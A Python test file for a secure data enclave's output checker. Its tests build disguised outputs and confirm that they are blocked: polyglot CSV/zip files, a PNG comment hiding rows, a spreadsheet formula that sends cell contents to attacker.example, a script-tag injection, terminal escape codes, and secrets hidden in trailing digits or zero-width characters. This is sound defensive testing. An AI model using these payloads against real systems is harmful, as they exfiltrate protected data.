"""Content that is not what it says: programs, hidden rows, formulas, scripts, secret channels.

Each is first shown to work on a careless reader. Numbers are those of the list of attacks
(docs/reference/attacks.md).
"""

import csv
import io
import itertools
import mimetypes
import zipfile
from collections import Counter
from collections.abc import Sequence
from pathlib import Path

import pytest
from django.test import Client

from ecluse.data.disclosure import check_outputs
from ecluse.data.results import Results
from ecluse.domain.disclosure import DisclosurePolicy, TableDeclaration
from ecluse.domain.documents import FileVerdict, Verdict
from ecluse.portal.accounts.models import User
from ecluse.portal.enclaves import actions as enclaves
from ecluse.portal.enclaves.models import Job
from tests.attacks.test_outputs import chunk, png
from tests.unit.data.disclosure.results import decided, frame
from tests.unit.portal.outputs.asking import asked
from tests.unit.portal.rooms import people, zone
from tests.unit.portal.zone import NOW, Zone, bundle

__all__ = ["people", "zone"]

SECRET = b"000007;B24;412"
PERSONS = list(range(1, 61))


def checked(
    folder: Path, name: str, data: bytes, declared: TableDeclaration | None = None
) -> FileVerdict:
    """The verdict on one file that a job left."""
    (folder / name).write_bytes(data)
    given = {name: declared} if declared else {}
    (verdict,) = check_outputs([(name, folder / name)], given, DisclosurePolicy())
    return verdict


def told(verdict: FileVerdict) -> set[str]:
    return {finding.rule for finding in verdict.findings}


def careless_archive(data: bytes) -> dict[str, bytes]:
    """What an unpacking program finds, wherever in the file the archive begins."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def archive(**members: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        for name, data in members.items():
            opened.writestr(name, data)
    return made.getvalue()


def test_a26_a_table_that_is_an_archive_too_is_blocked(tmp_path: Path) -> None:
    data = b"sex,persons\nmen,40\nwomen,52\n" + archive(rows=SECRET)
    assert mimetypes.guess_type("counts.csv") == ("text/csv", None)  # careless: by its name
    assert careless_archive(data) == {"rows": SECRET}

    verdict = checked(tmp_path, "counts.csv", data, TableDeclaration(counts=("persons",)))

    assert verdict.verdict is Verdict.BLOCKED
    assert told(verdict) == {"T2"}


@pytest.mark.parametrize("name", ["report.docx", "table.xlsx", "report.odt", "model.skops"])
def test_a27_a_document_that_is_an_archive_with_more_inside_is_blocked(
    tmp_path: Path, name: str
) -> None:
    data = archive(document=b"<p>40 persons</p>", macros=SECRET)
    assert careless_archive(data)["macros"] == SECRET

    assert checked(tmp_path, name, data).verdict is Verdict.BLOCKED


def careless_pictures(data: bytes) -> bytes:
    """Bytes of a picture that no eye sees: what stands after the word `comment`."""
    return data.partition(b"comment\0")[2][: len(SECRET)]


def test_a27_a_picture_whose_comment_holds_rows_is_blocked(tmp_path: Path) -> None:
    data = png(chunk(b"tEXt", b"comment\0" + SECRET))
    assert careless_pictures(data) == SECRET

    assert told(checked(tmp_path, "a.png", data)) == {"T2"}


def careless_spreadsheet(data: bytes) -> list[str]:
    """The cells that a spreadsheet runs when it opens the file."""
    rows = csv.reader(data.decode().splitlines())
    return [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_a28_a_formula_that_calls_home_is_blocked(tmp_path: Path) -> None:
    formula = '=WEBSERVICE("http://attacker.example/"&A2)'
    data = f'group,n\n"{formula.replace(chr(34), chr(34) * 2)}",50\n'.encode()
    assert careless_spreadsheet(data) == [formula]

    verdict = checked(tmp_path, "a.csv", data, TableDeclaration(counts=("n",)))

    assert (verdict.verdict, told(verdict)) == (Verdict.BLOCKED, {"A28"})


SCRIPT = "<script>fetch('/outputs/')</script>"


def careless_page(text: str) -> str:
    """A page made by putting texts together."""
    return f"<td>{text}</td>"


@pytest.mark.django_db
def test_a29_a_script_in_a_cell_is_shown_as_text_to_the_checker(
    zone: Zone, people: dict[str, User], client: Client
) -> None:
    assert SCRIPT in careless_page(SCRIPT)
    extract = zone.open_workspace().extracts.get()
    job = enclaves.submit_job(extract, bundle(), entry="analysis.py", by=people["pi"], now=NOW)
    zone.finish(job, {"counts.csv": f'"{SCRIPT}",persons\nmen,40\n'.encode()}, frozenset())
    request = asked(Job.objects.with_documents().get(pk=job.pk), people["pi"])
    client.force_login(people["sarah"])

    page = client.get(f"/outputs/{request.number}/")

    assert SCRIPT not in page.content.decode()
    assert "&lt;script&gt;" in page.content.decode()
    assert "'unsafe-inline'" not in page["Content-Security-Policy"].partition("script-src")[2]


def careless_terminal(data: bytes) -> bool:
    """Whether a terminal that prints the file is given orders."""
    return b"\x1b]" in data


def test_a29_orders_to_a_terminal_in_a_text_are_blocked(tmp_path: Path) -> None:
    data = b"40 persons\x1b]0;approved\x07\n"
    assert careless_terminal(data)

    assert checked(tmp_path, "a.txt", data).verdict is Verdict.BLOCKED


def careless_counts(data: bytes) -> bool:
    """Whether every row says that it counts: what the header alone tells."""
    header, *rows = csv.reader(data.decode().splitlines())
    return "n" in header and all(row[header.index("n")].isdigit() for row in rows)


def test_a30_rows_of_persons_with_a_column_of_ones_are_blocked(tmp_path: Path) -> None:
    body = "".join(f"{20 + n},{50 + n},1\n" for n in range(40))
    data = f"age,weight,n\n{body}".encode()
    assert careless_counts(data)

    verdict = checked(tmp_path, "a.csv", data, TableDeclaration(counts=("n",)))

    assert verdict.verdict is Verdict.BLOCKED


def in_digits(secret: bytes) -> bytes:
    """A table of means whose last digits are a secret, three digits a byte."""
    lines = [f"group {n},50,61.2340{byte:03}" for n, byte in enumerate(secret)]
    return "\n".join(["group,n,mean", *lines, ""]).encode()


def careless_reader(data: bytes) -> bytes:
    """The secret, read from the last digits of a table that was released as it was."""
    return bytes(int(row[-3:]) for row in data.decode().splitlines()[1:])


def test_a31_more_digits_than_a_mean_needs_are_pointed_out(tmp_path: Path) -> None:
    data = in_digits(SECRET)
    assert careless_reader(data) == SECRET

    verdict = checked(tmp_path, "a.csv", data, TableDeclaration(counts=("n",)))

    assert verdict.verdict is not Verdict.PASS
    assert "A31" in told(verdict)


LABELS = ("a", "b", "c", "d")
ORDERS = list(itertools.permutations(LABELS))


def careless_table(labels: Sequence[str]) -> bytes:
    """A table of counts in the order in which its author wrote the rows."""
    counted = Counter(labels)
    return "".join(f"{label},{count}\n" for label, count in counted.items()).encode()


def sent_by_order(data: bytes) -> int:
    """The number that the order of the rows tells."""
    return ORDERS.index(tuple(line.partition(",")[0] for line in data.decode().splitlines()))


def test_a32_the_order_of_the_rows_tells_nothing_in_a_table_of_the_engine(tmp_path: Path) -> None:
    first, second = ([*order] * 15 for order in (ORDERS[5], ORDERS[17]))
    assert (sent_by_order(careless_table(first)), sent_by_order(careless_table(second))) == (5, 17)

    made = [made_by_engine(tmp_path / "first", first), made_by_engine(tmp_path / "second", second)]

    assert made[0] == made[1]


def made_by_engine(folder: Path, labels: Sequence[str]) -> bytes:
    folder.mkdir()
    Results(folder).tabulate(frame(PERSONS, x=labels), name="t", by=["x"])
    ((_name, data),) = decided(folder).files
    return data


UNSEEN = dict.fromkeys(map(ord, "\N{ZERO WIDTH SPACE}\N{ZERO WIDTH JOINER}"))


def careless_eye(text: str) -> str:
    """What a person sees of a text on a screen."""
    return text.translate(UNSEEN)


def test_a32_characters_that_no_eye_sees_are_blocked(tmp_path: Path) -> None:
    text = "group,n\nwo\N{ZERO WIDTH SPACE}men\N{ZERO WIDTH JOINER},50\nmen,60\n"
    assert careless_eye(text) == "group,n\nwomen,50\nmen,60\n"

    verdict = checked(tmp_path, "a.csv", text.encode(), TableDeclaration(counts=("n",)))

    assert (verdict.verdict, told(verdict)) == (Verdict.BLOCKED, {"T2"})
